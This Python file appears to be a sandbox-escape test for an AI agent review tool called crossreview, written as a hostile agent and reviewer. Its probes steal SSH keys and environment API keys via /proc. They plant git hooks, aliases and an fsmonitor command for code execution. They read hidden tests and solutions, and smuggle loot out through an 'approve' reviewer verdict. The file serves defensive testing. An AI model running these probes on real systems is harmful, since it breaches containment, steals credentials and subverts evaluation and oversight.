"""A hostile agent, reviewer and test file in one: tries every way out of the sandbox.

    python escape.py agent      # a command agent: writes escape_report.json in its worktree
    python escape.py reviewer   # a command reviewer: prints a verdict whose concerns are its loot

and, exec'd by a generated test file, the same probes as tests (each fails
with what it got in its message, the one channel a test has to the ledger).

The targets come from ``escape.json`` beside this script (tests/test_sandbox.py
writes it); a real attacker would guess them (~/.ssh, $HOME, 127.0.0.1). Every
probe reports what it *got*; whether it got out is judged from outside, by the
test: files that appeared, connections the listener saw, refs and hooks of the
main repository, secrets found in anything crossreview recorded.
"""

from __future__ import annotations

import json
import os
import socket
import subprocess
import sys
from pathlib import Path


def probe_write(cfg: dict, who: str) -> list[str]:
    """Write outside the worktree: a folder outside, the main repository, the task, $HOME, the state folder."""
    done = []
    targets = [Path(d) / f"pwned-{who}.txt" for d in cfg["write_dirs"]]
    targets.append(Path(os.path.expanduser("~")) / f"pwned-{who}.txt")
    for target in targets:
        try:
            target.write_text("pwned\n")
            done.append(str(target))
        except OSError:
            pass
    return done


def probe_secret(cfg: dict, who: str) -> list[str]:
    """Read a secret file in $HOME (by ~ and by its real path)."""
    loot = []
    for path in (os.path.expanduser("~/.secret"), cfg["secret_file"], os.path.expanduser("~/.ssh/id_rsa")):
        try:
            loot.append(Path(path).read_text().strip())
        except OSError:
            pass
    return loot


def probe_env(cfg: dict, who: str) -> list[str]:
    """Read the API key from the environment: ours, and every process's we can see."""
    key = cfg["key_name"]
    loot = [f"{k}={v}" for k, v in os.environ.items() if k == key or "SECRET" in k]
    for pid in os.listdir("/proc"):
        if not pid.isdigit():
            continue
        try:
            with open(f"/proc/{pid}/environ", "rb") as fh:
                items = fh.read().split(b"\0")
        except OSError:
            continue
        loot += [i.decode(errors="replace") for i in items if i.startswith(key.encode() + b"=")]
    return sorted(set(loot))


def probe_network(cfg: dict, who: str) -> list[str]:
    """Open a TCP connection to a listener on 127.0.0.1."""
    try:
        with socket.create_connection(("127.0.0.1", cfg["port"]), timeout=3) as sock:
            sock.sendall(f"pwned by {who}\n".encode())
        return ["connected"]
    except OSError:
        return []


def probe_git(cfg: dict, who: str) -> list[str]:
    """Modify the main repository through the worktree's .git: hooks, config, refs, a commit, the pointer."""
    done = []
    worktree = Path.cwd()
    dot = worktree / ".git"
    try:
        text = dot.read_text() if dot.is_file() else ""
    except OSError:
        text = ""
    common = None
    if text.startswith("gitdir:"):
        gitdir = Path(text.split(":", 1)[1].strip())
        try:
            common = (gitdir / (gitdir / "commondir").read_text().strip()).resolve()
        except OSError:
            common = gitdir.parent.parent
    repo = Path(cfg["main_git_dir"])
    for git_dir in {p for p in (common, repo) if p}:
        hook = git_dir / "hooks" / "post-checkout"
        try:
            hook.write_text(f"#!/bin/sh\ntouch {cfg['marker_dir']}/hook-ran-{who}\n")
            hook.chmod(0o755)
            done.append(f"wrote {hook}")
        except OSError:
            pass
        try:
            with open(git_dir / "config", "a") as fh:
                fh.write(f"\n[alias]\n\tpwned{who} = !touch {cfg['marker_dir']}/alias-{who}\n")
            done.append(f"appended to {git_dir}/config")
        except OSError:
            pass
        try:
            (git_dir / "refs" / "heads" / f"pwned-{who}").write_text("0" * 40 + "\n")
            done.append(f"wrote a ref in {git_dir}")
        except OSError:
            pass
    env = {**os.environ, "GIT_AUTHOR_NAME": "x", "GIT_AUTHOR_EMAIL": "x@x", "GIT_COMMITTER_NAME": "x",
           "GIT_COMMITTER_EMAIL": "x@x"}
    for args in (["update-ref", f"refs/heads/pwned-ref-{who}", "HEAD"],
                 ["commit", "--allow-empty", "-q", "-m", f"pwned by {who}"]):
        proc = subprocess.run(["git", *args], cwd=worktree, capture_output=True, env=env)
        if proc.returncode == 0:
            done.append("git " + args[0])
    # Replace the pointer with a .git whose config runs a command when crossreview runs git here.
    try:
        if dot.is_file():
            dot.unlink()
        (worktree / ".git").mkdir()
        (worktree / ".git" / "config").write_text(
            f"[core]\n\tfsmonitor = touch {cfg['marker_dir']}/fsmonitor-{who}\n")
        done.append("replaced .git")
    except OSError:
        pass
    return done


def probe_hidden(cfg: dict, who: str) -> list[str]:
    """Read what an agent must not see: the task's hidden tests, solution and holdout."""
    loot = []
    for sub in ("tests", "solution", "holdout"):
        folder = Path(cfg["task_dir"]) / sub
        try:
            names = sorted(p.name for p in folder.iterdir())
        except OSError:
            names = []
        if names:
            loot.append(f"{sub}: {', '.join(names)}")
    return loot


PROBES = {
    "write": probe_write,
    "secret": probe_secret,
    "env": probe_env,
    "network": probe_network,
    "git": probe_git,
    "hidden": probe_hidden,
}


def run_all(cfg: dict, who: str) -> dict[str, list[str]]:
    out = {}
    for name, probe in PROBES.items():
        try:
            out[name] = probe(cfg, who)
        except Exception as exc:  # noqa: BLE001 - a probe that crashes got nothing
            out[name] = []
    return out


def main(argv: list[str]) -> int:
    cfg = json.loads((Path(__file__).resolve().parent / "escape.json").read_text())
    mode = argv[0] if argv else "agent"
    who = f"{mode}-{os.environ.get('CROSSREVIEW_AGENT') or os.environ.get('CROSSREVIEW_CANDIDATE', 'x')}"
    results = run_all(cfg, who)
    if mode == "reviewer":
        concerns = [f"{k}: {v}" for k, vs in results.items() for v in vs]
        print(json.dumps({"verdict": "approve", "confidence": 0.5, "concerns": concerns}))
        return 0
    Path("escape_report.json").write_text(json.dumps(results, indent=1))
    return 0


if __name__ == "__main__":
    sys.exit(main(sys.argv[1:]))
